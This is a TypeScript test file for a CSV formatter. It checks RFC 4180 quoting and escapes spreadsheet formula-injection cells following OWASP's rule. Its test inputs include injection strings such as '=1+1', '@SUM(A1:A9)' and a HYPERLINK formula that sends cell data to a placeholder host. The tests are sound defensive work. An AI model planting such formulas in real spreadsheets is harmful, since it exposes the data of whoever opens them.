import { LslabError } from '@lslab/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '../src/output/formatCsv.ts';
import { parseCsv } from '../src/predictions/parseTable.ts';

/** OWASP's rule, stated on its own: text starting with = + - @ TAB CR gets a leading '. */
const neutralised = (s: string) => (['=', '+', '-', '@', '\t', '\r'].includes(s[0]) ? `'${s}` : s);

describe('formatCsv(header, rows)', () => {
  it('writes RFC 4180: CRLF line ends, fields with a comma, quote, CR or LF quoted, quotes doubled', () => {
    expect(
      formatCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          ['two\nlines', 'plain'],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n"two\nlines",plain\r\n');
    expect(formatCsv(['a'], [])).toBe('a\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+41', "'+41"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("http://x.test/?"&A1,"click")', `"'=HYPERLINK(""http://x.test/?""&A1,""click"")"`],
    ['-0.5', "'-0.5"],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    ['', ''],
  ])('a text cell %j is written %j', (text, cell) => {
    expect(formatCsv(['h'], [[text]])).toBe(`h\r\n${cell}\r\n`);
  });

  it('numbers are number cells, never prefixed: -0.5, 1e-7, -0 → 0; NaN and ±∞ empty; null empty; booleans as words', () => {
    expect(
      formatCsv(
        ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'],
        [[-0.5, 1e-7, -0, Number.NaN, Number.POSITIVE_INFINITY, -Infinity, null, true, false]],
      ),
    ).toBe('a,b,c,d,e,f,g,h,i\r\n-0.5,1e-7,0,,,,,true,false\r\n');
  });

  it('neutralises the header too', () => {
    expect(formatCsv(['=cmd', 'ok'], [])).toBe("'=cmd,ok\r\n");
  });

  it('refuses a row whose length is not the header’s with E_SHAPE and the row', () => {
    try {
      formatCsv(['a', 'b'], [['1', '2'], ['3']]);
      expect.unreachable();
    } catch (e) {
      expect(e).toBeInstanceOf(LslabError);
      expect((e as LslabError).code).toBe('E_SHAPE');
      expect((e as LslabError).details.row).toBe(1);
    }
  });

  it('property: an RFC 4180 parser reads back every text cell, neutralised, and every finite number exactly', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', ',', '"', '\n', '\r', '\t', '=', '+', '-', '@', ' ', "'", 'é'),
    });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(text, fc.double({ noNaN: true, noDefaultInfinity: true })), {
          maxLength: 6,
        }),
        (rows) => {
          const csv = formatCsv(['text', 'number'], rows);
          const table = parseCsv(csv);
          expect(table.columns).toEqual(['text', 'number']);
          // the parser skips blank lines; no row is blank, its number cell is always written
          expect(table.rows.length).toBe(rows.length);
          table.rows.forEach((r, i) => {
            expect(r[0]).toBe(neutralised(rows[i][0]));
            expect(Number(r[1])).toBe(rows[i][1] === 0 ? 0 : rows[i][1]);
            expect(r[1]).not.toMatch(/^'/);
          });
        },
      ),
      { seed: 5, numRuns: 1000 },
    );
  });
});
